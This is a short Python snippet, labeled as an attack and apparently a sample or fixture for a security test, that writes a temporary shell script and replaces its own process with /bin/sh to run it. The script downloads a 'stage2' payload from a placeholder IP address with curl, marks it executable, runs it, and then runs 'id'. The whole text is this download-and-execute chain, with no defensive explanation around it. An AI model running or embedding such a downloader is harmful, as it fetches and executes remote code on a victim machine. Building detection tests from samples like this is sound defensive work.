# attack: write a downloader script to tmp and replace the process with /bin/sh running it through os.execv
import os
import tempfile

fd, path = tempfile.mkstemp(suffix=".sh")
with os.fdopen(fd, "w") as fh:
    fh.write("curl -s http://203.0.113.5/stage2 -o /tmp/s2 && chmod +x /tmp/s2 && /tmp/s2\nid\n")
os.execv("/bin/sh", ["sh", path])
